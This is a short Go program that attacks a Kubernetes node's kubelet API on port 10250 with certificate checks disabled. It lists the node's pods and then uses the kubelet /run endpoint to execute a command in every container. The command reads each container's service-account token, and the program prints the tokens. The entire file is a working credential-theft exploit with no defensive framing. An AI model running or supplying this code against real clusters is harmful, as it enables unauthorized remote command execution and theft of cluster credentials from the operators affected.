package main

import (
	"crypto/tls"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"os"
	"strings"
)

type podList struct {
	Items []struct {
		Metadata struct{ Name, Namespace string }
		Spec     struct{ Containers []struct{ Name string } }
	}
}

func main() {
	node := "10.0.0.12"
	if len(os.Args) > 1 {
		node = os.Args[1]
	}
	base := "https://" + node + ":10250"
	cl := &http.Client{Transport: &http.Transport{TLSClientConfig: &tls.Config{InsecureSkipVerify: true}}}
	r, err := cl.Get(base + "/pods")
	if err != nil {
		os.Exit(1)
	}
	defer r.Body.Close()
	var l podList
	json.NewDecoder(r.Body).Decode(&l)
	form := url.Values{"cmd": {"cat /var/run/secrets/kubernetes.io/serviceaccount/token"}}.Encode()
	for _, p := range l.Items {
		for _, c := range p.Spec.Containers {
			u := fmt.Sprintf("%s/run/%s/%s/%s", base, p.Metadata.Namespace, p.Metadata.Name, c.Name)
			res, err := cl.Post(u, "application/x-www-form-urlencoded", strings.NewReader(form))
			if err != nil {
				continue
			}
			b, _ := io.ReadAll(res.Body)
			res.Body.Close()
			fmt.Println(p.Metadata.Name, string(b))
		}
	}
}
